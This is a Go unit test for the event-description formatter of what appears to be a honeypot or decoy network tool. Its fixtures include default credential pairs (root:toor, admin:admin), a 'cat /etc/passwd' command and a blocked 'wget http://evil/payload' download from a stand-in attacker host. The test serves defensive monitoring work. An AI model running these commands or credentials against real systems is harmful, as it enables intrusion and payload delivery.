package main

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/voslund/decoynet/pkg/telemetry"
)

func TestDescribeEvent(t *testing.T) {
	tests := []struct {
		name string
		ev   telemetry.Event
		want string
	}{
		{
			name: "login attempt",
			ev:   telemetry.Event{Kind: telemetry.KindLoginAttempt, Username: "root", Password: "toor"},
			want: "root:toor",
		},
		{
			name: "login success",
			ev:   telemetry.Event{Kind: telemetry.KindLoginSuccess, Username: "admin", Password: "admin"},
			want: "admin:admin",
		},
		{
			name: "command with classification",
			ev: telemetry.Event{Kind: telemetry.KindCommand, Details: map[string]string{
				telemetry.DetailCommand:        "cat /etc/passwd",
				telemetry.DetailClassification: "ALLOW",
			}},
			want: "cat /etc/passwd [ALLOW]",
		},
		{
			name: "command without classification",
			ev: telemetry.Event{Kind: telemetry.KindCommand, Details: map[string]string{
				telemetry.DetailCommand: "ls -la",
			}},
			want: "ls -la",
		},
		{
			name: "verdict",
			ev: telemetry.Event{Kind: telemetry.KindVerdict, Details: map[string]string{
				telemetry.DetailCommand:        "wget http://evil/payload",
				telemetry.DetailClassification: "BLOCK",
			}},
			want: "wget http://evil/payload [BLOCK]",
		},
		{
			name: "block",
			ev: telemetry.Event{Kind: telemetry.KindBlock, Details: map[string]string{
				telemetry.DetailReason: "verdict",
			}},
			want: "verdict",
		},
		{
			name: "session end",
			ev: telemetry.Event{Kind: telemetry.KindSessionEnd, Details: map[string]string{
				telemetry.DetailReason:       "disconnect",
				telemetry.DetailDuration:     "12.50",
				telemetry.DetailCommandCount: "4",
			}},
			want: "disconnect after 12.50s, 4 commands",
		},
		{
			name: "unknown kind",
			ev:   telemetry.Event{Kind: telemetry.Kind("HEARTBEAT")},
			want: "",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, describeEvent(tt.ev))
		})
	}
}
